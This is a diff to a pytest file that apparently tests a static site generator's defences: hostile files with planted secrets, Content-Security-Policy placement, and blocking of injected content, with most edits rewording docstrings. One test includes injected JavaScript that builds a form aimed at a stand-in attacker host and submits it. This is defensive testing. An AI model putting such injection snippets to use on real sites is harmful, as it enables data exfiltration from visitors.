@@ -1,6 +1,7 @@
-"""An attack site: one hazard a file, with secrets planted around; and texts that would be code.
+"""A site under attack: hazards, with secrets around them; and texts that look like code.
 
-Run as a program, with a folder, this builds sites of one hazard each, told on standard input.
+Run as a program, with a folder, this builds sites of one hazard each; it reads their names
+from standard input.
 """
 
 import base64
@@ -59,6 +60,8 @@ SECRET, DRAFTED = "Zq7vPlantedKx", "Zq7vDraftedKx"
 COLOUR = (10, 240, 195)
 CONFS = ("pelicanconf.py", "publishconf.py")
 POSIX = pytest.mark.skipif(os.name == "nt", reason="Windows has no fork, no /proc and no links")
+# These need none of the fixtures of the other tests, and so can run beside them.
+IN_BROWSER = pytest.mark.xdist_group("policy")
 # Seconds of CPU for a small site, which needs a third of one; a busy machine may take so many
 # times as long.
 PATIENCE, BUSY = 10, 6
@@ -895,7 +898,7 @@ def outcomes(request, tmp_path_factory) -> dict[tuple[str, str], Outcome]:
 @POSIX
 @pytest.mark.parametrize(("hazard", "conf"), TRIED)
 def test_one_hazard(outcomes, hazard, conf):
-    """A secret gets out, or something is written elsewhere, by one file of a hostile hand."""
+    """One hostile file publishes a secret, or writes outside the output folder."""
     code, printed, changed, leaked, written = outcomes[hazard, conf]
     told = HAZARDS[hazard].told
     told = "" if HAZARDS[hazard].public and conf == CONFS[0] else told
@@ -1302,7 +1305,7 @@ ACTS = {
 
 
 def test_policy_comes_first(sample, preview):
-    """A page has no policy, or something stands before it that the policy does not hold for."""
+    """A page has no policy, or an element before it, which the policy does not cover."""
     for site in (sample, preview):
         for path in site.pages():
             head = site.text(path).partition("<head>")[2].lstrip()
@@ -1316,7 +1319,7 @@ def test_policy_comes_first(sample, preview):
 
 
 def test_policy_of_a_redirect(make):
-    """An old address is a page without a policy."""
+    """The page of an old address has no policy."""
     site = make({"news/n.md": NEWS.replace("\n\n", "\nAliases: /old/\n\n")}, SITEURL=LOCAL)
     assert '<meta charset="utf-8"><meta http-equiv="Content-Security-Policy"' in site.text("old/")
 
@@ -1339,8 +1342,9 @@ def inject(site: Site, markup: str) -> None:
     path.write_text(text, encoding="utf-8")
 
 
+@IN_BROWSER
 def test_policy_stops_what_is_injected(browser, copied):
-    """A script, a form or a picture of another host in a text runs, is sent, or is asked for."""
+    """A script, form or image of another host in a text runs, is sent, or is loaded."""
     for name, markup in INJECTED.items():
         inject(copied, markup)
         with Visit(browser, copied, "news/injected/") as seen:
@@ -1355,8 +1359,9 @@ def test_policy_stops_what_is_injected(browser, copied):
             assert seen.said or name == "manifest"
 
 
+@IN_BROWSER
 def test_policy_stops_what_a_script_would_do(browser, copied):
-    """Code that got in sends what it finds to another host, or brings in more code."""
+    """Injected code sends data to another host, or loads more code."""
     acts = dict(ACTS) | {
         "form": f"document.body.insertAdjacentHTML('beforeend', '<form action={EVIL}/form>"
         "<input name=a value=b></form>'); [...document.forms].pop().submit()",
@@ -1374,8 +1379,9 @@ def test_policy_stops_what_a_script_would_do(browser, copied):
             assert seen.page.url.startswith(f"{LOCAL}/"), name
 
 
+@IN_BROWSER
 def test_policy_lets_the_site_work(browser, many_papers):
-    """The policy stops what the site itself does: search, filters, copying, films, formulas."""
+    """The policy blocks parts of the site: search, filters, copying, videos, formulas."""
     told = "addEventListener('securitypolicyviolation', e => (window.broken ??= []).push(e.blockedURI))"
 
     def visit(path: str) -> Visit:
@@ -1475,7 +1481,7 @@ def strangers():
 
 @pytest.mark.parametrize("name", STRANGE)
 def test_texts_of_strangers(strangers, tmp_path, name):
-    """A tag, or an attribute that does harm, of a stranger's text gets into a page."""
+    """A tag or a harmful attribute of a stranger's text gets into a page."""
     strangers.settings["PATH"] = str(tmp_path)
     text = f"Title: T\nDate: 2026\nSummary: {STRANGE[name].splitlines()[0]}\n\n{STRANGE[name]}\n"
     path = write(tmp_path, {"news/n.md": text}) / "news" / "n.md"
